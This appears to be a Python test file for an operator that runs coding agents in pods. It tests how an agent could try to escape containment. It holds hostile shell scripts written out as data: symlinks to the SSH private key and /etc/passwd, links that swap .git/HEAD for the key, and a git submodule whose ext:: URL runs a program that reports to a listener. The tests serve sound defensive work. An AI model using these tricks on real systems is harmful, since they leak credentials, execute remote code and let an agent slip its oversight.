"""An agent that leaves in its work tree and its repository what is to lead the keeper elsewhere: links and addresses."""

import json
from string import Template

from gastown_operator.workload import layout
from tests.escape import pods, traps
from tests.escape.attempts import attempts
from tests.support.polecats import condition
from tests.support.site import Site

KEY_WORDS = "PRIVATE KEY"
LINKS = f"""\
ln -s {layout.GIT_CREDENTIALS}/ssh-privatekey key
ln -s {layout.GIT_CREDENTIALS} keys
ln -s {layout.KEEPER_GIT_DIR} git-dir
ln -s ../../../../../etc/passwd passwd
echo work > work.txt
"""
#: Following a link means reading what it names.
FOLLOW = f"""\
mkdir /tmp/copied && cp -rL key keys passwd /tmp/copied/ && cd /tmp/copied
grep -lE '{KEY_WORDS}|^root:' key keys/ssh-privatekey passwd
"""
#: Where the keeper reads plain files that the agent writes.
PLACES = f"""\
rm -f .git/HEAD .git/packed-refs
for name in .git/HEAD .git/packed-refs /gastown/hints/transcript /gastown/hints/exit; do
  [ ! -d "$(dirname $name)" ] || ln -sf {layout.GIT_CREDENTIALS}/ssh-privatekey $name
done
"""
#: One whose URL runs a command, and one that is another repository; both have a commit, so whoever updates fetches them.
SUBMODULES = """\
cat > url << 'END'
$program
END
chmod +x url
for name in command other; do
  git init --quiet $$name
  git -C $$name -c user.name=a -c user.email=a@b commit --quiet --allow-empty --message One
  git update-index --add --cacheinfo 160000,$$(git -C $$name rev-parse HEAD),$$name
  rm -rf $$name
  git config -f .gitmodules submodule.$$name.path $$name
done
git config -f .gitmodules submodule.command.url "ext::$$PWD/url"
git config -f .gitmodules submodule.other.url http://$host:$port/other.git
git add url .gitmodules && git commit --quiet --message 'Use libraries'
echo work > work.txt
"""
UPDATE = """\
for name in command other; do git -c protocol.ext.allow=always submodule update --init $name || true; done
"""


def submodules(host: str, port: int) -> str:
    """The shell text that adds both submodules; the server there hears of whoever follows their URLs."""
    program = traps.reporting(host, port)
    return Template(SUBMODULES).substitute(program=program, host=host, port=port)


def _blobs(site: Site, repository: str, commit: str) -> str:
    """Everything that a commit holds, as text."""
    names = site.git.git(repository, "ls-tree", "-r", "--format=%(objecttype) %(objectname)", commit)
    blobs = [line.split()[1] for line in names.splitlines() if line.startswith("blob")]
    return "\n".join(site.git.git(repository, "cat-file", "blob", blob) for blob in blobs)


@attempts("symlinks")
def test_links_out_of_the_work_tree_are_committed_as_links_and_not_followed(site: Site) -> None:
    rig = site.rig("links")
    status = rig.sling("links", LINKS).tells("Done", "Done", "polecat/links")
    listed = site.git.git(rig.repository, "ls-tree", "-r", status["headCommit"])
    modes = {line.split("\t")[1]: line.split()[0] for line in listed.splitlines()}
    links = ("key", "keys", "git-dir", "passwd")
    assert {name: modes.get(name) for name in links} == dict.fromkeys(links, "120000")
    assert KEY_WORDS not in _blobs(site, rig.repository, status["headCommit"])

    found = pods.naive_keeper(rig, "follower", LINKS, FOLLOW).split()
    assert found == ["key", "keys/ssh-privatekey", "passwd", "stepped"]


@attempts("links-for-files")
def test_a_link_in_the_place_of_a_file_that_the_keeper_reads_is_not_followed(site: Site) -> None:
    rig = site.rig("places")
    polecat = rig.sling("places", f"{PLACES}\necho work > work.txt")
    status = polecat.until("Done", "Done")
    (pod,) = polecat.pods()
    keeper = site.cluster.log(rig.namespace, "polecat-places", "keeper")
    told = [
        json.dumps(status),
        json.dumps(pod["status"]),
        keeper,
        _blobs(site, rig.repository, status["headCommit"]),
    ]
    assert [text for text in told if KEY_WORDS in text] == []
    # The agent's repository was of no use to anybody: the links were there.
    assert "could not be read" in condition(status, "Ready")["message"]

    naive = pods.naive_keeper(rig, "reader", PLACES, "cat .git/HEAD .git/packed-refs")
    assert naive.count(KEY_WORDS) >= 2 * len(("BEGIN", "END"))


@attempts("submodule-url")
def test_a_submodule_is_committed_as_it_is_and_nothing_is_fetched_from_its_address(
    site: Site, address: str
) -> None:
    rig = site.rig("submodule")
    with traps.listening(address) as listener:
        script = submodules(address, listener.port)
        polecat = rig.sling("submodule", script)
        status = polecat.tells("Done", "Done", "polecat/submodule")
        assert listener.reports == set()
        assert {".gitmodules", "url", "work.txt"} <= rig.files(status["headCommit"])

        pods.naive_keeper(rig, "fetcher", script, UPDATE)
        assert {report.split(" HTTP")[0] for report in listener.reports} == {
            "url beside the credential",
            "GET /other.git/info/refs?service=git-upload-pack",
        }
